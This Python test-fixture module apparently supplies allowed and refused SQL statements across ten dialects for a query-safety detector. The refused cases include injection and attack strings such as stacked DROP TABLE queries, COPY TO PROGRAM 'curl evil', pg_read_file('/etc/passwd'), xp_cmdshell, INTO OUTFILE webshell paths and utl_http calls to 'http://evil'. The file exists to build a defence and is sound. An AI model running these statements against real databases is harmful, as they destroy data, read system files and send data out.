"""Statements over ten dialects with what must be said of them: one on each line; ``⏎`` stands for the end of a line."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from tests.envelopes.safety.detectors.sql_queries import QUERIES

_REFUSED: Final = {
    ("postgres", "sql_several_statements"): r"""
        SELECT 1; DROP TABLE users
        COMMIT; DROP SCHEMA public CASCADE
        SELECT 1;;SELECT 2
        SELECT 1; -- remark ⏎ DELETE FROM t
        SELECT 'a'; COPY t TO '/tmp/x'
        BEGIN; SELECT 1; COMMIT
    """,
    ("postgres", "sql_no_statement"): r"""
        ;
        -- nothing but a remark
        /* DROP TABLE users */
        ; ; -- x
    """,
    ("postgres", "sql_statement_not_allowed"): r"""
        DROP TABLE users
        TRUNCATE users
        ALTER TABLE users ADD COLUMN x int
        CREATE TABLE x (a int)
        CREATE TABLE x AS SELECT * FROM y
        CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
        CREATE EXTENSION dblink
        GRANT ALL ON users TO public
        REVOKE ALL ON users FROM bob
        INSERT INTO t VALUES (1)
        UPDATE t SET a = 1 WHERE b = 2
        DELETE FROM t WHERE a = 1
        MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE
        EXPLAIN ANALYZE DELETE FROM t
        EXPLAIN SELECT 1
        COPY t TO PROGRAM 'curl evil'
        COPY t FROM '/etc/passwd'
        DO 'begin perform 1; end'
        DO $$ begin perform 1; end $$
        CALL dangerous()
        PREPARE x AS DELETE FROM t
        EXECUTE x
        DEALLOCATE x
        SET ROLE postgres
        SET session_replication_role = replica
        RESET ALL
        LISTEN channel
        NOTIFY channel
        UNLISTEN channel
        VACUUM FULL
        LOCK TABLE t
        REFRESH MATERIALIZED VIEW v
        COMMENT ON TABLE t IS 'x'
        BEGIN
        ROLLBACK
        REINDEX TABLE t
        CLUSTER t
        DISCARD ALL
        CHECKPOINT
        LOAD 'library'
        SHOW ALL
    """,
    ("postgres", "sql_construct_not_allowed"): r"""
        SELECT * INTO x FROM users
        SELECT * INTO TEMP x FROM users
        SELECT * FROM t FOR UPDATE
        SELECT * FROM t FOR SHARE SKIP LOCKED
        WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x
        WITH x AS (INSERT INTO t VALUES (1) RETURNING a) SELECT a FROM x
        WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x
    """,
    ("postgres", "sql_function_not_allowed"): r"""
        SELECT pg_read_file('/etc/passwd')
        SELECT pg_read_binary_file('x'), pg_ls_dir('/')
        SELECT lo_import('/etc/passwd')
        SELECT lo_export(1, '/tmp/x')
        SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS t(a int)
        SELECT dblink_exec('x', 'DROP TABLE t')
        SELECT set_config('role', 'postgres', false)
        SELECT current_setting('data_directory')
        SELECT nextval('seq')
        SELECT setval('seq', 1)
        SELECT pg_sleep(10)
        SELECT 1 WHERE 1 = (SELECT 1 FROM pg_sleep(10))
        SELECT query_to_xml('DELETE FROM t', true, true, '')
        SELECT database_to_xml(true, true, '')
        SELECT pg_terminate_backend(1)
        SELECT pg_reload_conf()
        SELECT pg_catalog.pg_sleep(1)
        SELECT "pg_sleep"(1)
        SELECT PG_SLEEP (1)
        SELECT my_function(1)
        SELECT app.lower('x')
        SELECT * FROM app.report(1)
        SELECT ts_rewrite('a'::tsquery, 'DELETE FROM t')
        SELECT * FROM crosstab('select 1')
        SELECT pg_advisory_lock(1)
        SELECT a FROM t ORDER BY pg_sleep(1)
        SELECT CURRENT_USER
        SELECT has_table_privilege('x', 'select')
        SELECT lo_get(1)
    """,
    ("postgres", "sql_ambiguous_quote"): r"""
        SELECT 'a\'; DROP TABLE users; --'
        SELECT E'a\'b'
        SELECT $$x$$
        SELECT $tag$ '; DROP TABLE users; -- $tag$
        SELECT U&'d\0061t'
    """,
    ("postgres", "sql_ambiguous_comment"): r"""
        SELECT 1 /* a /* b */ c */
        SELECT 1 /* /* */ , pg_sleep(1) -- */ */
    """,
    ("postgres", "sql_executable_comment"): r"""
        SELECT 1 /*!50000 UNION SELECT 2 */
        SELECT 1 /* ! 2 */
        SELECT 1 /*M!100 UNION SELECT 2 */
    """,
    ("postgres", "sql_not_parsed"): r"""
        SELECT 'unterminated
        SELECT /* unterminated
        SELEC 1
        SELECT a \! ls
        SELECT (1
        SELECT OPERATOR(pg_catalog.+) 1
        SELECT U&"d!0061t" UESCAPE '!' FROM t
        SELECT xmlparse(document pg_read_file('x'))
    """,
    ("mysql", "sql_executable_comment"): r"""
        /*!50000 DROP TABLE users */
        SELECT 1 /*!50000 UNION SELECT password FROM users */
        SELECT /*!SLEEP(5)*/ 1
    """,
    ("mysql", "sql_hint"): r"""
        SELECT /*+ MAX_EXECUTION_TIME(0) */ 1
        SELECT /*+ SET_VAR(foreign_key_checks=OFF) */ 1
    """,
    ("mysql", "sql_function_not_allowed"): r"""
        SELECT LOAD_FILE('/etc/passwd')
        SELECT SLEEP(5)
        SELECT BENCHMARK(1000000, MD5('x'))
        SELECT GET_LOCK('x', 10)
        SELECT UPDATEXML(1, 'x', 1), EXTRACTVALUE(1, 'x')
        SELECT sys_exec('id')
        SELECT USER()
    """,
    ("mysql", "sql_construct_not_allowed"): r"""
        SELECT @a := 1
        SELECT @@version
        SELECT @@global.secure_file_priv
        SELECT a FROM t LOCK IN SHARE MODE
        SELECT a FROM t FOR UPDATE
    """,
    ("mysql", "sql_statement_not_allowed"): r"""
        SHOW TABLES
        DESCRIBE users
        REPLACE INTO t VALUES (1)
        SET GLOBAL general_log = 1
        KILL 1
        USE mysql
        FLUSH PRIVILEGES
    """,
    ("mysql", "sql_not_parsed"): r"""
        SELECT 1 INTO OUTFILE '/var/www/x.php'
        SELECT 1 INTO DUMPFILE '/tmp/x'
        SELECT a FROM t PROCEDURE ANALYSE()
        HANDLER t OPEN
        LOAD DATA INFILE '/etc/passwd' INTO TABLE t
        SELECT 'a'; DROP TABLE users; --'
    """,
    ("mysql", "sql_several_statements"): r"""
        SELECT 'a'; DROP TABLE users; -- '
        SELECT 1; SELECT 2
    """,
    ("sqlite", "sql_statement_not_allowed"): r"""
        PRAGMA writable_schema = 1
        ATTACH DATABASE '/tmp/x' AS y
        DETACH DATABASE y
        VACUUM
        REPLACE INTO t VALUES (1)
    """,
    ("sqlite", "sql_function_not_allowed"): r"""
        SELECT load_extension('evil')
        SELECT readfile('/etc/passwd')
        SELECT writefile('/tmp/x', 'y')
        SELECT edit('x')
        SELECT fts3_tokenizer('x', 'y')
        SELECT * FROM pragma_table_info('t')
    """,
    ("tsql", "sql_statement_not_allowed"): r"""
        EXEC('DROP TABLE users')
        EXEC xp_cmdshell 'dir'
        EXECUTE sp_executesql N'DROP TABLE x'
        SELECT 1 SHUTDOWN
        SELECT 1 ⏎ GO ⏎ DROP TABLE x
        SELECT * FROM a EXEC xp_cmdshell 'dir'
        SELECT 1 WAITFOR DELAY '0:0:9'
        SELECT * FROM t REVERT
        SELECT 1 AS x KILL 5
        SELECT 1 COMMIT
        SELECT a FROM t RETURN
        DBCC CHECKDB
        BULK INSERT t FROM 'x'
        USE master
        DECLARE @x INT
    """,
    ("tsql", "sql_function_not_allowed"): r"""
        SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'DELETE FROM t')
        SELECT * FROM OPENQUERY(linked, 'DELETE FROM t')
        SELECT * FROM OPENDATASOURCE('x', 'y')
        SELECT dbo.evil(1)
        SELECT * FROM dbo.evil(1)
        SELECT NEXT VALUE FOR s
        SELECT SUSER_SNAME()
        SELECT master.dbo.fn_varbintohexstr(1)
    """,
    ("tsql", "sql_construct_not_allowed"): r"""
        SELECT * FROM t WITH (TABLOCKX)
        SELECT * INTO x FROM t
        SELECT @@servername
    """,
    ("tsql", "sql_table_not_allowed"): "SELECT * FROM linked.db.dbo.t",
    ("bigquery", "sql_statement_not_allowed"): r"""
        EXPORT DATA OPTIONS(uri='gs://x/*', format='CSV') AS SELECT 1
        EXECUTE IMMEDIATE 'DROP TABLE x'
        CREATE TEMP FUNCTION f() AS (1)
        LOAD DATA INTO t FROM FILES(format='CSV', uris=['gs://x'])
    """,
    ("bigquery", "sql_function_not_allowed"): r"""
        SELECT * FROM EXTERNAL_QUERY('x', 'DELETE FROM t')
        SELECT project.dataset.udf(1)
        SELECT SESSION_USER()
        SELECT * FROM ML.PREDICT(MODEL m, TABLE t)
    """,
    ("snowflake", "sql_function_not_allowed"): r"""
        SELECT SYSTEM$ABORT_SESSION(1)
        SELECT SYSTEM$STREAM_HAS_DATA('x')
        SELECT seq.nextval
        SELECT my_udf(1)
        SELECT CURRENT_ROLE()
        SELECT SYSTEM$WAIT(5)
    """,
    ("snowflake", "sql_table_not_allowed"): r"""
        SELECT $1 FROM @stage/file.csv
        SELECT $1 FROM @~/private
    """,
    ("snowflake", "sql_construct_not_allowed"): "SELECT * FROM TABLE('x')",
    ("snowflake", "sql_statement_not_allowed"): r"""
        PUT file:///etc/passwd @stage
        GET @stage file:///tmp
        CALL proc()
        EXECUTE IMMEDIATE 'DROP TABLE x'
        UNDROP TABLE t
    """,
    ("duckdb", "sql_table_not_allowed"): r"""
        SELECT * FROM 'secrets.csv'
        FROM '/etc/passwd'
        SELECT * FROM "/etc/passwd"
        SELECT * FROM 's3://bucket/x.parquet'
        SELECT * FROM secrets.csv
        SELECT * FROM a.b.parquet
        SELECT * FROM "/tmp/x".csv
    """,
    ("duckdb", "sql_function_not_allowed"): r"""
        SELECT * FROM read_csv('/etc/passwd')
        SELECT * FROM read_csv_auto('/etc/passwd')
        SELECT * FROM read_parquet('s3://x')
        SELECT * FROM read_text('/etc/passwd')
        SELECT * FROM glob('*')
        SELECT getenv('SECRET')
        SELECT * FROM sqlite_scan('x', 'y')
    """,
    ("duckdb", "sql_statement_not_allowed"): r"""
        INSTALL httpfs
        LOAD httpfs
        COPY t TO 'x.csv'
        ATTACH 'x.db'
        SET enable_external_access = true
    """,
    ("oracle", "sql_function_not_allowed"): r"""
        SELECT utl_http.request('http://evil') FROM dual
        SELECT s.nextval FROM dual
        SELECT dbms_pipe.receive_message('x', 10) FROM dual
        SELECT sys.dbms_export_extension.get_domain_index_tables('x') FROM dual
        SELECT httpuritype('http://evil').getclob() FROM dual
    """,
    ("oracle", "sql_table_not_allowed"): r"""
        SELECT * FROM t@link
        SELECT * FROM t @ link
        SELECT * FROM s.t@link.world
        SELECT * FROM t@"link"
        SELECT f@link(1) FROM dual
    """,
    ("oracle", "sql_hint"): r"""
        SELECT /*+ FULL(t) */ a FROM t
        SELECT --+ FULL(t) ⏎ a FROM t
    """,
}


def allowed() -> Iterator[tuple[str, str]]:
    """Dialect and statement."""
    for dialect, block in QUERIES.items():
        for statement in _lines(block):
            yield dialect, statement


def refused() -> Iterator[tuple[str, str, str]]:
    """Dialect, statement, and the kind of the finding."""
    for (dialect, kind), block in _REFUSED.items():
        for statement in _lines(block):
            yield dialect, statement, kind


def _lines(block: str) -> Iterator[str]:
    for line in block.splitlines():
        if line.strip():
            yield line.strip().replace("⏎", "\n")
